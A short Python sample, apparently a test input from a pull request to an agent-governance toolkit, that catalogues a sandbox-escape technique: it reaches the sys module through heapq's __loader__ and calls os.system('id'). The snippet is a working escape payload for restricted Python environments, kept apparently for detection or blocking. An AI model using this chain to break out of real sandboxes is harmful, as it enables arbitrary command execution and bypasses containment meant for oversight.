# Source: https://github.com/microsoft/agent-governance-toolkit/pull/2631
# Family: module-attribute
# What: datetime's _pydatetime/time chain or heapq/bisect via their __loader__ back to sys
import heapq

heapq.__loader__.load_module("sys").modules["os"].system("id")
